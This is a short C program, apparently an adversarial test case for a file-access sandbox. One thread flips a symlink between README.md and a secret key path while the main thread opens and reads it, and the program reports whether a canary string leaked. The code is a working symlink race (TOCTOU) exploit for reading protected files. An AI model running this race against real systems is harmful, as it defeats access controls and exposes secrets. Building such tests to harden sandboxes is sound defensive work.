// technique: a thread flips a project symlink between an allowed file and the key while the main thread opens it
// timeout: 60
#include "adv.h"
#include <pthread.h>
static volatile int stop;
static const char *secret;
static void *flip(void *a) {
	while (!stop) {
		symlink(secret, "race.tmp"); rename("race.tmp", "race");
		symlink("README.md", "race.tmp"); rename("race.tmp", "race");
	}
	return a;
}
int main(void) {
	secret = strdup(adv("SECRET"));
	symlink("README.md", "race");
	pthread_t t;
	pthread_create(&t, 0, flip, 0);
	int got = 0;
	for (int i = 0; i < 20000; i++) {
		int fd = open("race", O_RDONLY);
		if (fd < 0) continue;
		char buf[256];
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n > 0) { buf[n] = 0; if (strstr(buf, "CANARY")) { printf("race won: %s\n", buf); got++; break; } }
	}
	stop = 1;
	pthread_join(t, 0);
	printf("secret reads: %d\n", got);
	return 0;
}
